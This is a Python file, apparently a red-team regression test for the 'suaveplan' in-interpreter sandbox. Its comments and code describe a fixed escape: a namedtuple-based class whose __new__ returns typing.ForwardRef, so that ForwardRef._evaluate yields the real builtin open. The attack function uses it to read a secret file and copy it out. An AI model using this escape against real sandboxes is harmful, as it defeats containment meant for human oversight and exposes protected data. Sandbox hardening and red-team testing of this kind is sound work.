# mypy: ignore-errors
# Technique: a class statement calls the type of its first base with (name, bases,
# namespace), and that base need not be a class: an instance of a plugin class whose own
# `__new__` returns an existing class (made without calling that `__new__`, through
# namedtuple's `_make`) made `class Adopted(anchor)` evaluate to `typing.ForwardRef`, which
# the runtime then registered as a class the plugin created, so `ForwardRef._evaluate` (an
# `eval` with the real builtins) counted as the plugin's own private member. Found in the
# second red-team pass of the in-interpreter layer; was a real in-interpreter escape (the
# real `open`) before the fix.
import collections
import typing

from suaveplan import fs


def _ref(text):
    return typing.get_args(typing.List[text])[0]  # noqa: UP006 - it makes the ForwardRef


Base = collections.namedtuple("Base", "a")


class Meta(Base):
    def __new__(cls, *args):
        return type(_ref("x"))


def attack(secret_path, canary_path):
    anchor = Meta._make([1])

    class Adopted(anchor):
        pass

    ref = _ref("open")
    try:
        real_open = ref._evaluate({}, {}, recursive_guard=frozenset())
    except TypeError:  # 3.11's signature
        real_open = ref._evaluate({}, {}, frozenset())
    print("SANDBOX-" + "ESCAPED")
    fs.write_text("/data/out.txt", real_open(secret_path).read())
    return real_open(secret_path).read()
